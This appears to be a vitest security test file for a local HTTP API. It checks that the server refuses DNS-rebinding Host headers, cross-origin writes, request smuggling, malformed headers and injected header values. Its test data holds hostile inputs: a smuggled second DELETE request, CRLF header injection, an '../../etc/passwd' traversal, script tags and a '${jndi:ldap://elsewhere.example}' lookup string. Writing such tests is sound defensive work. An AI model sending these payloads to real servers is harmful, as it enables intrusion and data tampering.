/** Requests that no browser and no honest program sends, byte for byte: none acts, none is told another's host, none comes back in an answer. */
import { once } from 'node:events';
import { connect } from 'node:net';
import { describe, expect, it } from 'vitest';
import { testDatabase } from '../database.ts';
import { servedApp } from '../http/served.ts';
import { tried } from './tally.ts';

const tested = testDatabase();
const app = servedApp(tested, 'silent');

interface Parts {
  method?: string;
  path?: string;
  version?: string;
  host?: string | null;
  lines?: readonly string[];
  body?: string;
}

/** As it goes over the wire; the host is the server's own unless it says another, and `null` is none. */
function request({ method = 'GET', path = '/api/v1/cases', version = 'HTTP/1.1', ...more }: Parts) {
  const host = more.host === undefined ? `127.0.0.1:${app.port}` : more.host;
  const lines = [
    `${method} ${path} ${version}`,
    ...(host === null ? [] : [`Host: ${host}`]),
    ...(more.lines ?? []),
    'Connection: close',
  ];
  return `${lines.join('\r\n')}\r\n\r\n${more.body ?? ''}`;
}

/** All that comes back until the connection is closed; nothing where it is closed at once. */
async function sent(text: string): Promise<{ status: number; head: string; body: string }> {
  const socket = connect(app.port, '127.0.0.1');
  const pieces: Buffer[] = [];
  socket.on('data', (piece: Buffer) => pieces.push(piece));
  // A server that closes while more is written to it resets the connection, which is an answer.
  socket.on('error', () => undefined);
  socket.write(Buffer.from(text, 'latin1'));
  await once(socket, 'close');
  const answer = Buffer.concat(pieces).toString('latin1');
  const at = answer.indexOf('\r\n\r\n');
  const [head, body] = at < 0 ? [answer, ''] : [answer.slice(0, at), answer.slice(at + 4)];
  return { status: Number(/^HTTP\/1\.\d (\d+)/.exec(head)?.[1] ?? 0), head, body };
}

const cases = () => tested.database.read('MATCH (c:SkeinCase) RETURN c.id AS id');
const made = '{"title":"by somebody hostile"}';
const json = 'Content-Type: application/json';
const withBody = (lines: readonly string[], body = made): Parts => ({
  ...{ method: 'POST', body },
  lines: [json, `Content-Length: ${body.length}`, ...lines],
});

describe('a request for another host', () => {
  it.each([
    ...['rebound.example', 'rebound.example:80', '127.0.0.1.rebound.example', '0.0.0.0'],
    ...['localhost.rebound.example', '[::2]', '192.0.2.1', 'localhost@rebound.example'],
    ...['rebound.example#localhost', 'rebound.example/localhost', 'localhost,rebound.example'],
    ...['rebound.example%00localhost', 'xn--localhost-.example', '127.0.0.1.', 'localhost:80:80'],
  ])('is not answered: %s', async (host) => {
    const text = request({ host });
    tried('header', text);
    const { status } = await sent(text);
    // An address with a dot behind it is that address.
    expect(host === '127.0.0.1.' ? [200, 421] : [400, 421]).toContain(status);
  });

  it.each<[string, Parts]>([
    ['none at all', { host: null }],
    ['an empty one', { host: '' }],
    ['in the whole address', { path: 'http://rebound.example/api/v1/cases' }],
    ['before its own', { host: 'rebound.example', lines: ['Host: localhost'] }],
    [
      'though a proxy is said to have been asked for ours',
      {
        host: 'rebound.example',
        lines: ['X-Forwarded-Host: localhost', 'Forwarded: host=localhost'],
      },
    ],
  ])('is not answered: %s', async (_how, parts) => {
    const text = request(parts);
    tried('header', text);
    expect([400, 421]).toContain((await sent(text)).status);
  });
});

describe('a page elsewhere', () => {
  it.each([
    ...['null', 'https://elsewhere.example', 'http://localhost.elsewhere.example', 'file://'],
    ...['http://127.0.0.1:1', 'http://127.0.0.1.elsewhere.example', 'http://[::1]:1', 'x', ''],
  ])('changes nothing from the origin %j', async (origin) => {
    const text = request(withBody([`Origin: ${origin}`]));
    tried('header', text);
    expect((await sent(text)).status).toBe(403);
    expect(await cases()).toEqual([]);
  });

  it.each([...['cross-site', 'same-site', 'Same-Origin', 'anything', 'none, same-origin']])(
    'changes nothing from a site that is %s',
    async (site) => {
      const text = request(withBody([`Sec-Fetch-Site: ${site}`]));
      tried('header', text);
      expect((await sent(text)).status).toBe(403);
      expect(await cases()).toEqual([]);
    },
  );

  it.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x'])(
    'changes nothing by what a form can send: %s',
    async (type) => {
      const lines = [`Content-Type: ${type}`, `Content-Length: ${made.length}`];
      const text = request({ method: 'POST', body: made, lines });
      tried('header', text);
      expect([400, 415]).toContain((await sent(text)).status);
      expect(await cases()).toEqual([]);
    },
  );
});

describe('a request whose end is told in two ways, or wrongly', () => {
  const second = 'DELETE /api/v1/cases/x HTTP/1.1\r\nHost: localhost\r\n\r\n';
  const chunked = `0\r\n\r\n${second}`;
  it.each<[string, readonly string[], string]>([
    ['length and chunks', ['Content-Length: 4', 'Transfer-Encoding: chunked'], chunked],
    ['chunks and length', ['Transfer-Encoding: chunked', 'Content-Length: 4'], chunked],
    ['two lengths', ['Content-Length: 4', 'Content-Length: 44'], made],
    ['two lengths in one', ['Content-Length: 4, 44'], made],
    ['a length below zero', ['Content-Length: -1'], made],
    ['a length with a sign', ['Content-Length: +31'], made],
    ['a length in hexadecimal', ['Content-Length: 0x1f'], made],
    ['a length beyond any', ['Content-Length: 99999999999999999999999'], made],
    ['a blank before the colon', ['Content-Length : 31'], made],
    ['chunks that are not the last', ['Transfer-Encoding: chunked, identity'], chunked],
    ['an encoding that is none', ['Transfer-Encoding: xchunked'], chunked],
    ['a chunk beyond any', ['Transfer-Encoding: chunked'], 'FFFFFFFFFFFFFFFFF\r\n'],
    ['a chunk that is no number', ['Transfer-Encoding: chunked'], 'zz\r\n'],
  ])('is refused, and nothing behind it is taken for another: %s', async (_how, lines, body) => {
    const text = request({ method: 'POST', lines: [json, ...lines], body });
    tried('header', text);
    const { status, body: answered } = await sent(text);
    expect([0, 400, 413, 501]).toContain(status);
    expect(answered).not.toContain('HTTP/1.1');
    expect(await cases()).toEqual([]);
  });
});

describe('a request that is malformed', () => {
  it.each<[string, Parts]>([
    ['a NUL in a value', { lines: ['X-Request-Id: abcdefgh\0'] }],
    ['a line break alone in a value', { lines: ['X-Request-Id: abcdefgh\rSet-Cookie: a=b'] }],
    ['a name with a blank', { lines: ['X Request: a'] }],
    ['a name with a bracket', { lines: ['X(Request): a'] }],
    ['a header of 40 kB', { lines: [`X-Long: ${'x'.repeat(40_000)}`] }],
    ['4,000 headers', { lines: Array.from({ length: 4_000 }, (_, at) => `X-${at}: ${at}`) }],
    ['an address of 40 kB', { path: `/api/v1/cases?q=${'x'.repeat(40_000)}` }],
    ['a version that is none', { version: 'HTTP/9.9' }],
    ['a version after any', { version: 'HTTP/3.0' }],
    ['a method that is none', { method: 'GRAB' }],
    ['a way through', { method: 'CONNECT', path: 'elsewhere.example:443' }],
    ['an echo', { method: 'TRACE' }],
    ['an expectation that is none', { lines: ['Expect: a-miracle'] }],
  ])('is refused: %s', async (_how, parts) => {
    const text = request(parts);
    tried('header', text);
    const { status } = await sent(text);
    expect(status === 0 || status >= 400, String(status)).toBe(true);
  });
});

describe('what a header says', () => {
  it.each([
    ...['<script>skein()</script>', '../../etc/passwd', 'a b c d e f g h', 'short'],
    ...['x'.repeat(65), '%0d%0aset-cookie:a=b', '${jndi:ldap://elsewhere.example}', '"quoted-id"'],
  ])('is no id of a request, and does not come back: %s', async (id) => {
    const text = request({ lines: [`X-Request-Id: ${id}`] });
    tried('header', text);
    const { status, head, body } = await sent(text);
    expect(status).toBe(200);
    expect(head).toMatch(/^x-request-id: [\w-]{8,64}\r?$/im);
    expect(head + body).not.toContain(id);
  });

  it.each([
    ...['Accept-Language: ../../../etc/passwd', 'Accept-Language: <script>skein()</script>'],
    ...['Referer: https://elsewhere.example/<script>', 'X-HTTP-Method-Override: DELETE'],
    ...['Cookie: __proto__=a; constructor=b', 'X-Forwarded-For: <script>skein()</script>'],
    ...['X-Original-URL: /api/v1/persons', 'X-Rewrite-URL: /api/v1/persons'],
    ...['Range: bytes=0-,0-,0-,0-,0-', 'Upgrade: h2c', 'If-None-Match: *, "x", W/"y"'],
  ])('changes nothing of what is answered: %s', async (line) => {
    const plain = await sent(request({}));
    const text = request({ lines: [line] });
    tried('header', text);
    const { status, body } = await sent(text);
    expect([status, body]).toEqual([plain.status, plain.body]);
  });
});
